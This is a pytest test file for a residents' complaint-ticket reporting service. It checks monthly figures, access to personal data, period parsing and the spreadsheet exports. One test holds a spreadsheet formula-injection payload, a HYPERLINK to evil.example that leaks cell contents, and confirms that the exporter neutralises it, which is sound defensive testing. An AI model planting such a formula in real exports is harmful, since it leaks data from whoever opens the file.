"""Every figure of October 2026 on the hand-made tickets of report_tickets.py (both databases).

Expected values are worked out by hand in that module's docstring; the arithmetic for each
figure is repeated next to its assertion.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from datetime import date, datetime

import openpyxl
import pytest

from services.access import Actor
from services.errors import InvalidInput, PermissionDenied
from services.reports import (
    UNASSIGNED,
    UNTAGGED,
    PeriodError,
    PersonalDataDenied,
    Report,
    ReportService,
    export,
    month_period,
    parse_period,
)
from services.reports.model import CallbackFigures
from services.tickets.callbacks import CallbackOutcome
from services.tickets.categories import get_category
from services.tickets.reviews import Decision
from services.workdays.worktime import WorkCalendar
from storage import Database
from tests.services import report_tickets as data
from tests.services.conftest import OFFICIAL as DESK_OFFICIAL
from tests.services.conftest import RESIDENT, STAFF, STAFF_CHAT, Desk, file_noise
from tests.services.report_tickets import ADMIN, LI, NOW, OFFICIAL, PHONE, SH, STAFF_A, WANG


@pytest.fixture
async def service(database: Database) -> ReportService:
    await data.add_october(database)
    return ReportService(database, lambda: NOW)


@pytest.fixture
async def october(service: ReportService) -> Report:
    return await service.report(month_period(2026, 10))


def test_hand_counted_due_times_agree_with_the_calendar() -> None:
    cal = WorkCalendar()
    for row in data.TICKETS:
        category = get_category(row[1])
        assert cal.add_working_hours(row[4], category.response_hours) == row[5], row[0]
        assert cal.add_working_hours(row[4], category.resolution_hours) == row[6], row[0]


async def test_totals(october: Report) -> None:
    f = october.totals
    assert f.received == 8  # T1–T8; 30 Sep 23:30 and 1 Nov 00:00 are outside
    # 响应率: T6 is still within its limit, so 7 are judged; T3 (late) and T4 (never) fail.
    assert (f.response_base, f.responded_in_time, f.response_rate) == (7, 5, 0.7143)
    # 解决率: the merged T7 is left out; T1 and T5 confirmed, T2 and T3 by staff only.
    assert (f.resolution_base, f.resolved, f.confirmed, f.staff_only) == (7, 4, 2, 2)
    assert (f.resolution_rate, f.confirmed_resolution_rate) == (0.5714, 0.2857)
    assert f.staff_only_resolution_rate == 0.2857
    # 满意率: ratings 5, 2, 4 → two of three are 4 or 5.
    assert (f.ratings, f.satisfied, f.satisfaction_rate) == (3, 2, 0.6667)
    # First response: 0.5, 0.5, 1.0, 2.0, 3.5, 6.0 → median 1.5; p90 is the 6th of 6.
    assert (f.median_first_response_h, f.p90_first_response_h) == (1.5, 6.0)
    # Resolution: 2.0, 11.0, 18.0, 19.0 → median 14.5; p90 is the 4th of 4.
    assert (f.median_resolution_h, f.p90_resolution_h) == (14.5, 19.0)
    assert (f.overdue, f.reopened, f.rejected) == (3, 1, 1)  # T1, T3, T4; T3; T8


async def test_working_hours_across_the_holiday_and_the_make_up_saturday(october: Report) -> None:
    rows = {r.number: r for r in october.tickets}
    # Filed on National Day: nothing counts until 8 October 09:00.
    assert (rows["2610-0001"].first_response_h, rows["2610-0001"].resolution_h) == (2.0, 18.0)
    # Friday 16:00 → Saturday 10 October (worked) 11:00 → Monday 10:00.
    assert (rows["2610-0002"].first_response_h, rows["2610-0002"].resolution_h) == (3.5, 11.0)
    assert rows["2610-0001"].overdue and not rows["2610-0002"].overdue
    assert rows["2610-0006"].responded_in_time is None  # due at 13:00 today, it is 10:00


async def test_by_category(october: Report) -> None:
    noise = next(g for g in october.by_category if g.key == "noise")
    assert noise.title == "噪音扰民"
    f = noise.figures
    assert (f.received, f.response_base, f.response_rate) == (3, 2, 1.0)
    assert (f.resolved, f.confirmed, f.resolution_rate) == (2, 1, 0.6667)
    assert (f.ratings, f.satisfaction_rate) == (1, 1.0)
    assert (f.median_first_response_h, f.median_resolution_h) == (2.75, 14.5)
    assert (f.overdue, f.reopened) == (1, 0)
    sanitation = next(g for g in october.by_category if g.key == "sanitation").figures
    assert (sanitation.reopened, sanitation.satisfaction_rate, sanitation.staff_only) == (1, 0, 1)
    assert october.by_category[0].key == "noise"  # the largest first
    assert sum(g.figures.received for g in october.by_category) == 8


async def test_by_community_and_staff(october: Report) -> None:
    communities = {g.key: g.figures.received for g in october.by_community}
    assert communities == {"幸福小区": 4, UNTAGGED: 2, "阳光花园": 2}
    staff = {g.key: g.figures for g in october.by_staff}
    assert {k: f.received for k, f in staff.items()} == {"张社工": 4, "李社工": 3, UNASSIGNED: 1}
    # 李社工: T3 late, T5 in time, T6 not judged yet.
    assert staff["李社工"].response_rate == 0.5
    assert staff[UNASSIGNED].overdue == 1


async def test_knowledge_base_figures(october: Report) -> None:
    kb = october.kb
    assert (kb.asked, kb.answered, kb.suggested, kb.unanswered) == (6, 3, 2, 1)
    assert (kb.thumbs_up, kb.thumbs_down) == (2, 1)


async def test_trend_is_daily_for_a_month(october: Report) -> None:
    assert len(october.trend) == 31
    by_day = {p.start.day: (p.received, p.resolved) for p in october.trend if p.received}
    assert by_day == {1: (1, 1), 9: (1, 1), 12: (1, 1), 13: (1, 0), 20: (1, 0), 21: (1, 0),
                      29: (1, 1), 31: (1, 0)}  # fmt: skip


async def test_personal_data_only_when_asked(service: ReportService, october: Report) -> None:
    t1 = next(r for r in october.tickets if r.number == "2610-0001")
    assert (t1.phone, t1.resident_name, t1.location_text) == (None, None, None)
    # Without personal data no one's words: the public summary (here the default) instead.
    assert (t1.description, t1.outcome) == (None, None)
    assert t1.summary == "噪音扰民 · 幸福小区3号楼 · 已办结"
    full = await service.report(month_period(2026, 10), with_personal_data=True)
    rows = {r.number: r for r in full.tickets}
    assert rows["2610-0001"].description == data.T1_TEXT
    assert rows["2610-0001"].outcome == "已约谈业主，装修改在白天进行"
    assert rows["2610-0001"].summary == t1.summary
    assert (rows["2610-0001"].phone, rows["2610-0001"].resident_name) == (PHONE, "王阿姨")
    assert rows["2610-0002"].resident_name is None  # anonymous, even for admins
    assert full.totals == october.totals


async def test_who_may_read(service: ReportService) -> None:
    report = await service.report_for(OFFICIAL, "2026-10")
    assert report.totals.received == 8
    assert (await service.report_for(ADMIN, "2026-10", with_personal_data=True)).tickets
    with pytest.raises(PersonalDataDenied):
        await service.report_for(OFFICIAL, "2026-10", with_personal_data=True)
    for person in (WANG, LI, STAFF_A, 999):
        for personal in (False, True):
            with pytest.raises(PermissionDenied) as caught:
                await service.report_for(person, "2026-10", with_personal_data=personal)
            assert not isinstance(caught.value, PersonalDataDenied)


async def test_empty_and_future_periods(service: ReportService) -> None:
    empty = await service.report(month_period(2026, 6))
    assert empty.is_empty and empty.totals.received == 0
    assert empty.totals.response_rate is None and empty.totals.median_resolution_h is None
    with pytest.raises(PeriodError) as caught:
        await service.report_for(OFFICIAL, "2026-12")
    assert caught.value.reason == "future"


async def test_a_report_read_in_an_open_transaction_is_the_same_report(
    service: ReportService, database: Database, october: Report
) -> None:
    async with database.transaction() as session:  # a bulletin run's, say
        inside = await service.report_in(session, month_period(2026, 10))
        assert inside == october
        # As of an earlier moment: October had not started on 30 September.
        with pytest.raises(InvalidInput):
            await service.report_in(
                session, month_period(2026, 10), now=datetime(2026, 9, 30, 23, 0, tzinfo=SH)
            )


@pytest.mark.parametrize(
    ("text", "start", "end"),
    [
        ("2026-11", date(2026, 11, 1), date(2026, 12, 1)),
        ("2026-12", date(2026, 12, 1), date(2027, 1, 1)),
        ("month", date(2026, 12, 1), date(2027, 1, 1)),
        ("week", date(2026, 12, 14), date(2026, 12, 21)),
        ("quarter", date(2026, 10, 1), date(2027, 1, 1)),
        ("2026-Q1", date(2026, 1, 1), date(2026, 4, 1)),
        ("2026-W45", date(2026, 11, 2), date(2026, 11, 9)),
        ("2026-10-05..2026-10-11", date(2026, 10, 5), date(2026, 10, 12)),
    ],
)
def test_periods(text: str, start: date, end: date) -> None:
    period = parse_period(text, date(2026, 12, 16))
    assert (period.start, period.end) == (start, end)


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("2026-13", "malformed"),
        ("last month please", "malformed"),
        ("", "malformed"),
        ("2026-02-30..2026-03-01", "malformed"),
        ("2026-11-10..2026-11-01", "malformed"),
        ("2027-01", "future"),
        ("2020-01-01..2026-01-01", "too_long"),
    ],
)
def test_bad_periods(text: str, reason: str) -> None:
    with pytest.raises(PeriodError) as caught:
        parse_period(text, date(2026, 12, 16))
    assert caught.value.reason == reason


async def test_json_export_has_the_promised_keys(october: Report) -> None:
    out = json.loads(export.to_json_text(october))
    for key in ("received", "response_rate", "resolution_rate", "confirmed_resolution_rate",
                "satisfaction_rate", "ratings", "median_first_response_h",
                "median_resolution_h", "overdue", "reopened"):  # fmt: skip
        assert key in out and key in out["by_category"]["noise"]
    assert (out["received"], out["response_rate"], out["median_resolution_h"]) == (8, 0.7143, 14.5)
    assert out["by_category"]["noise"]["title"] == "噪音扰民"
    assert out["knowledge_base"]["asked"] == 6
    assert "phone" not in out["tickets"][0] and PHONE not in json.dumps(out)


async def test_xlsx_has_a_figures_sheet_and_a_tickets_sheet(
    service: ReportService, october: Report
) -> None:
    book = openpyxl.load_workbook(io.BytesIO(export.to_xlsx(october)))
    assert book.sheetnames == ["指标", "工单"]
    figures = list(book["指标"].iter_rows(values_only=True))
    assert figures[0][:4] == ("维度", "名称", "受理数", "应响应数")
    assert figures[1][:3] == ("合计", "2026-10", 8)
    tickets = list(book["工单"].iter_rows(values_only=True))
    assert len(tickets) == 9 and tickets[1][0] == "2610-0001"
    assert tickets[1][5] == "2026-10-01 10:00" and "电话" not in tickets[0]
    full = await service.report(month_period(2026, 10), with_personal_data=True)
    rows = list(openpyxl.load_workbook(io.BytesIO(export.to_xlsx(full)))["工单"].values)
    assert rows[0][-5:] == ("反映内容", "办理结果", "居民", "电话", "地点")
    assert rows[1][-2] == PHONE and rows[1][-5] == data.T1_TEXT


async def test_csv_opens_with_the_csv_module(october: Report) -> None:
    for rows, width in ((export.figure_rows(october), 33), (export.ticket_rows(october), 17)):
        text = export.to_csv(rows).decode("utf-8-sig")
        parsed = list(csv.reader(io.StringIO(text)))
        assert len(parsed[0]) == width
    tickets = list(csv.reader(io.StringIO(export.to_csv(export.ticket_rows(october)).decode())))
    assert tickets[1][0].endswith("2610-0001") and tickets[1][9] == "18.0"


async def test_tickets_worked_through_the_ticket_service(desk: Desk) -> None:
    """The figures read what the ticket service writes: confirmed vs staff-only, reopened."""
    solved, unsolved = await file_noise(desk), await file_noise(desk)
    desk.clock.advance(hours=1)
    for number in (solved, unsolved):
        await desk.tickets.staff.accept(Actor(STAFF, STAFF_CHAT), number)
    desk.clock.advance(hours=2)
    for number in (solved, unsolved):
        await desk.tickets.staff.resolve(Actor(STAFF, STAFF_CHAT), number, "已处理")
    await desk.tickets.resident.rate(Actor.in_private(RESIDENT), solved, True, 5)
    await desk.tickets.resident.rate(Actor.in_private(RESIDENT), unsolved, False, 2)
    await desk.tickets.staff.resolve(Actor(STAFF, STAFF_CHAT), unsolved, "再次上门处理")
    await desk.tickets.staff.close(Actor(STAFF, STAFF_CHAT), unsolved)
    report = await ReportService(desk.db, desk.clock).report(
        month_period(2026, 11), with_personal_data=True
    )
    f = report.totals
    assert (f.received, f.response_rate, f.median_first_response_h) == (2, 1.0, 1.0)
    assert (f.confirmed, f.staff_only, f.reopened) == (1, 1, 1)
    assert (f.ratings, f.satisfaction_rate, f.median_resolution_h) == (2, 0.5, 3.0)
    assert {r.number: r.outcome for r in report.tickets}[unsolved] == "再次上门处理"


async def test_no_cell_anyone_wrote_is_ever_a_formula(october: Report) -> None:
    # A summary that a spreadsheet would run: a link that leaks the sheet, or worse.
    attack = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
    rows = export.ticket_rows(october)
    column = rows[0].index("公开摘要")
    rows[1][column] = attack
    rows[2][column] = "-1+2"
    parsed = list(csv.reader(io.StringIO(export.to_csv(rows).decode("utf-8-sig"))))
    assert parsed[1][column] == "'" + attack and parsed[2][column] == "'-1+2"

    tickets = dataclasses.replace(october.tickets[0], summary=attack)
    book = openpyxl.load_workbook(
        io.BytesIO(export.to_xlsx(dataclasses.replace(october, tickets=(tickets,))))
    )
    cell = book["工单"].cell(row=2, column=column + 1)
    assert (cell.value, cell.data_type) == (attack, "s")  # text, shown exactly as written


async def test_callbacks_redone_and_supervised_are_counted(desk: Desk) -> None:
    """Each call by outcome, tickets sent back to be redone, tickets ever supervised."""
    first, second = await file_noise(desk), await file_noise(desk)
    at_desk = Actor(STAFF, STAFF_CHAT)
    for number in (first, second):
        await desk.tickets.staff.accept(at_desk, number)
        await desk.tickets.staff.resolve(at_desk, number)
    desk.clock.advance(days=3)
    callbacks = desk.tickets.callbacks
    await callbacks.record(at_desk, first, CallbackOutcome.UNREACHABLE)
    await callbacks.record(at_desk, first, CallbackOutcome.NOT_SATISFIED, "还是吵")
    await callbacks.record(at_desk, second, CallbackOutcome.SATISFIED)
    await desk.tickets.supervision.supervise(Actor.in_private(DESK_OFFICIAL), first)
    await desk.tickets.supervision.unsupervise(Actor.in_private(DESK_OFFICIAL), first)
    report = await ReportService(desk.db, desk.clock).report(month_period(2026, 11))
    f = report.totals
    assert f.callbacks == CallbackFigures(made=3, satisfied=1, not_satisfied=1, unreachable=1)
    assert (f.redone, f.supervised, f.reopened) == (1, 1, 1)
    out = export.to_json(report)
    assert out["callbacks"] == {"made": 3, "satisfied": 1, "not_satisfied": 1, "unreachable": 1}
    assert (out["redone"], out["supervised"]) == (1, 1)
    assert out["by_category"]["noise"]["redone"] == 1


async def test_reviews_of_rejections_are_counted(desk: Desk) -> None:
    """Rejections the resident asked to have reviewed (申请复核), at the top and per group."""
    asked, not_asked = await file_noise(desk), await file_noise(desk)
    at_desk = Actor(STAFF, STAFF_CHAT)
    for number in (asked, not_asked):
        await desk.tickets.staff.reject(at_desk, number, "不属于社区管理范围")
    ticket = await desk.tickets.staff.get_ticket_for_staff(at_desk, asked)
    await desk.tickets.reviews.ask(Actor.in_private(RESIDENT), ticket.id)
    report = await ReportService(desk.db, desk.clock).report(month_period(2026, 11))
    assert (report.totals.reviews, report.totals.rejected) == (1, 2)
    out = export.to_json(report)
    assert (out["reviews"], out["by_category"]["noise"]["reviews"]) == (1, 1)


async def test_a_rejection_reopened_on_review_counts_as_redone(desk: Desk) -> None:
    """The card shows ↩️ 重办×1 after a review reopens a rejection; the figures agree (an
    exploratory run found /stats at 0)."""
    reopened, upheld = await file_noise(desk), await file_noise(desk)
    at_desk, official = Actor(STAFF, STAFF_CHAT), Actor.in_private(DESK_OFFICIAL)
    for number in (reopened, upheld):
        await desk.tickets.staff.reject(at_desk, number, "不属于社区管理范围")
        ticket = await desk.tickets.staff.get_ticket_for_staff(at_desk, number)
        await desk.tickets.reviews.ask(Actor.in_private(RESIDENT), ticket.id)
    await desk.tickets.reviews.decide(official, reopened, Decision.REOPENED, None)
    await desk.tickets.reviews.decide(official, upheld, Decision.UPHELD, "该路段属于市政管理")
    report = await ReportService(desk.db, desk.clock).report(month_period(2026, 11))
    assert (report.totals.redone, report.totals.reviews) == (1, 2)
    assert export.to_json(report)["by_category"]["noise"]["redone"] == 1
